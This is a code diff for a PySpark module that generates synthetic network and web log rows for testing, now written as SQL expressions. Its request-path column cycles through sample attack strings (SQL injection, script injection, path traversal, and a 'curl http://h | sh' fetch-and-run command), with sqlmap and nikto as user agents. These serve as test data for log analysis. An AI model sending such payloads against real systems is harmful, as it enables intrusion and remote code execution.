@@ -3,26 +3,45 @@
 from __future__ import annotations
 
 from pyspark.sql import DataFrame, SparkSession
-from pyspark.sql import functions as F
 
-# Fixed values of the test data: its first instant, and the paths that events take turns in.
+# Fixed values of the test data: its first instant, and the record as expressions over an event. The
+# expressions are SQL text, which the session parses in one step per column.
 START_MICROS = 1_704_067_200_000_000
-PATHS = (
-    "/item?id=' OR 1=1--",
-    "/item?id=1 UNION SELECT x FROM y",
-    "/q?s=<script>alert(1)</script>",
-    "/img?onerror=x",
-    "/run?cmd=/bin/bash",
-    "/../../etc/passwd",
-    "/Admin/LOGIN.php",
-    "/user/login",
-    "/q?s=union select 1",
-    None,
-    "/x?onload=f",
-    "/sh?c=curl http://h | sh",
-)
-OTHER_PATH = "/index.html"
-PATH_CYCLE = 17
+COUNTER = "TRY_CAST(regexp_extract(props, '([0-9]+)', 1) AS INT)"
+RECORD = {
+    "source_ip": """
+        CASE WHEN event_id % 97 = 0 THEN NULL
+             WHEN user_id % 3 = 0 THEN '10.0.0.1'
+             ELSE concat('10.0.0.', CAST(2 + user_id % 8 AS STRING)) END""",
+    "dest_ip": """
+        concat('192.168.0.', CAST(user_id % 5 AS STRING),
+               CASE WHEN event_id % 2 = 0 THEN concat(':', CAST(20 + k % 60 AS STRING)) ELSE '' END)""",
+    "protocol": "CASE event_id % 3 WHEN 0 THEN 'HTTP' WHEN 1 THEN 'TCP' ELSE 'SSH' END",
+    "action": "CASE WHEN event_type = 'error' THEN 'blocked' ELSE 'allowed' END",
+    "threat_label": """
+        CASE WHEN k = 0 THEN NULL WHEN k < 60 THEN 'benign' WHEN k < 85 THEN 'suspicious'
+             ELSE 'malicious' END""",
+    "log_type": "CASE event_id % 3 WHEN 0 THEN 'application' WHEN 1 THEN 'firewall' ELSE 'ids' END",
+    "bytes_transferred": "CAST(round(value * 100) AS BIGINT) * 1000",
+    "user_agent": """
+        CASE event_id % 11 WHEN 0 THEN 'sqlmap/1.7' WHEN 1 THEN 'nikto/2.5' WHEN 2 THEN NULL
+             ELSE 'Mozilla/5.0' END""",
+    "request_path": """
+        CASE event_id % 17
+             WHEN 0 THEN concat('/item?id=', chr(39), ' OR 1=1--')
+             WHEN 1 THEN '/item?id=1 UNION SELECT x FROM y'
+             WHEN 2 THEN '/q?s=<script>alert(1)</script>'
+             WHEN 3 THEN '/img?onerror=x'
+             WHEN 4 THEN '/run?cmd=/bin/bash'
+             WHEN 5 THEN '/../../etc/passwd'
+             WHEN 6 THEN '/Admin/LOGIN.php'
+             WHEN 7 THEN '/user/login'
+             WHEN 8 THEN '/q?s=union select 1'
+             WHEN 9 THEN NULL
+             WHEN 10 THEN '/x?onload=f'
+             WHEN 11 THEN '/sh?c=curl http://h | sh'
+             ELSE '/index.html' END""",
+}
 
 
 def read_events(spark: SparkSession, folder: str) -> DataFrame:
@@ -42,38 +61,10 @@ def stream_events(spark: SparkSession, folder: str, files_per_trigger: int | Non
 
 def logs_view(events: DataFrame, time_div: int = 1) -> DataFrame:
     """Events as typed log rows; ``time_div`` runs the clock faster, so that windows fill up."""
-    event, user = F.col("event_id"), F.col("user_id")
-    micros = F.unix_micros(F.col("ts").cast("timestamp")) - START_MICROS
-    run = micros if time_div == 1 else ((micros - micros % time_div) / time_div).cast("bigint")
-    k = F.regexp_extract("props", "([0-9]+)", 1).try_cast("int")
-    host = F.concat(F.lit("192.168.0."), (user % 5).cast("string"))
-    port = F.concat(F.lit(":"), (20 + k % 60).cast("string"))
-    kind = event % 3
-
-    path = F
-    for n, text in enumerate(PATHS):
-        path = path.when(event % PATH_CYCLE == n, F.lit(text))
-    return events.select(
-        "event_id",
-        F.timestamp_micros(START_MICROS + run).alias("event_time"),
-        F.when(event % 97 == 0, None)
-        .when(user % 3 == 0, "10.0.0.1")
-        .otherwise(F.concat(F.lit("10.0.0."), (2 + user % 8).cast("string")))
-        .alias("source_ip"),
-        F.when(event % 2 == 0, F.concat(host, port)).otherwise(host).alias("dest_ip"),
-        F.when(kind == 0, "HTTP").when(kind == 1, "TCP").otherwise("SSH").alias("protocol"),
-        F.when(F.col("event_type") == "error", "blocked").otherwise("allowed").alias("action"),
-        F.when(k == 0, None)
-        .when(k < 60, "benign")
-        .when(k < 85, "suspicious")
-        .otherwise("malicious")
-        .alias("threat_label"),
-        F.when(kind == 0, "application").when(kind == 1, "firewall").otherwise("ids").alias("log_type"),
-        (F.round(F.col("value") * 100).cast("bigint") * 1000).alias("bytes_transferred"),
-        F.when(event % 11 == 0, "sqlmap/1.7")
-        .when(event % 11 == 1, "nikto/2.5")
-        .when(event % 11 == 2, None)
-        .otherwise("Mozilla/5.0")
-        .alias("user_agent"),
-        path.otherwise(OTHER_PATH).alias("request_path"),
-    )
+    time = "CAST(ts AS TIMESTAMP)"
+    if time_div != 1:
+        run = f"(unix_micros({time}) - {START_MICROS}) div {time_div}"
+        time = f"timestamp_micros({START_MICROS} + {run})"
+    counted = events.selectExpr("*", f"{COUNTER} AS k")
+    record = (f"{text} AS {name}" for name, text in RECORD.items())
+    return counted.selectExpr("event_id", f"{time} AS event_time", *record)
